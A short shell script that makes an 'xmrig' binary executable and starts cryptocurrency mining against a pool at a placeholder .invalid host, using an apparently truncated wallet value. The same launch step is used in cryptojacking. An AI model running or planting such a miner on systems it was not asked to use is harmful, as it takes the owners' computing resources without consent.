#!/bin/sh
chmod +x ./xmrig
./xmrig -o stratum+tcp://pool.hashworks.invalid:3333 -u 44Aa -p x --donate-level 1
